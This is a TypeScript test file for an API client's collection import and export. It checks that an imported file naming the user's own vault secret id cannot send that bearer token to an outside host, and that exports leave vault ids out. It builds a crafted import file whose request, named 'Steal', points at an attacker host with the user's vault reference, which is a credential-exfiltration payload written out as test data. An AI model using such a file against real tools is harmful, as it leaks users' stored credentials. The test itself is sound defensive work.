import { describe, expect, it } from 'vitest';
import { useUserCore } from '../support/user-core';

// The user's identity, found by the default chain on this machine.
const USER_KEYS = { accessKeyId: 'AKIAUSERIDENTITY0004', secretAccessKey: 'userSecret/1111111111111111111111111111' };
const session = useUserCore('shomei-vault-ref-', USER_KEYS);
const call = (channel: string, input: unknown) => session.call(channel, input);

const USER_TOKEN = 'user-bearer-token-5c1e9f';

// Not covered elsewhere: a Shomei file keeps an auth field's vault reference ({ kind: 'vault', id })
// as written, and a Shomei export writes the exporter's ids. An id in a file names a value of the
// sender's vault — never one the receiver typed for that request. A file that names the id of the
// user's own token (read from a collection the user exported and shared) sent that token to the
// file's host once trusted, though the user never gave this collection a token; and typing a new
// token into the imported request overwrote the user's own request's one.
describe("an imported auth field naming a value of the user's vault", () => {
  it('is imported empty, and sends nothing of the vault once trusted; an export names no vault id', async () => {
    // The user's own collection, with a bearer token kept in the vault.
    const mine = await call('collections:create-collection', { name: 'Mine' });
    const collectionId = (mine.value as { id: string }).id;
    const secretId = 'auth_0123456789abcdef';
    expect(await call('auth:store-secrets', { values: [{ id: secretId, value: USER_TOKEN }] })).toMatchObject({
      ok: true,
    });
    const saved = await call('collections:save-request', {
      placement: { collectionId },
      request: {
        name: 'My API',
        method: 'GET',
        url: 'https://api.example.com/me',
        auth: { type: 'bearer', tokenRef: { kind: 'vault', id: secretId } },
      },
    });
    expect(saved).toMatchObject({ ok: true });
    const exported = await call('collections:export', { id: collectionId, format: 'shomei' });
    expect(exported).toMatchObject({ ok: true });
    expect((exported.value as { text: string }).text).not.toContain(secretId);
    // …and says what the receiver sets up instead.
    expect((exported.value as { notes: Array<{ message: string }> }).notes.map((n) => n.message)).toContain(
      'Set the bearer token in the Auth tab: it stays in the sender’s vault',
    );

    // The file that names it, sent back to the user.
    const file = JSON.stringify({
      format: 'shomei.collection',
      formatVersion: 1,
      collection: {
        id: 'borrowed',
        name: 'Borrowed',
        items: [
          {
            kind: 'request',
            id: 'steal',
            name: 'Steal',
            method: 'GET',
            url: `${session.attacker.origin}/steal`,
            auth: { type: 'bearer', tokenRef: { kind: 'vault', id: secretId } },
          },
        ],
      },
    });
    const imported = await call('import:run', { text: file });
    expect(imported).toMatchObject({ ok: true });
    // Not silently: the report says which auth came in empty, and why.
    expect((imported.value as { report: { dropped: unknown[] } }).report.dropped).toContainEqual({
      path: 'Borrowed / Steal',
      what: 'stored secret',
      why: "it named a value kept in the sender's vault, which this machine does not have: set it in the Auth tab",
    });
    const importedId = (imported.value as { collectionId: string }).collectionId;
    const [item] = session.core.collections.getCollection(importedId).items;
    if (item?.kind !== 'request') throw new Error('expected one request');
    expect(item.auth).toEqual({ type: 'bearer', tokenRef: { kind: 'variables', text: '' }, prefix: 'Bearer' });

    await call('trust:trust-collection', { collectionId: importedId });
    const { kind: _kind, id, ...request } = item;
    const sent = await call('request:send-draft', { requestId: 'r-1', request, savedRequestId: id });
    expect(sent).toMatchObject({ ok: false });
    for (const received of session.attacker.received) expect(received.headers).not.toContain(USER_TOKEN);
    expect(await session.core.secrets.get(secretId)).toBe(USER_TOKEN);
  });
});
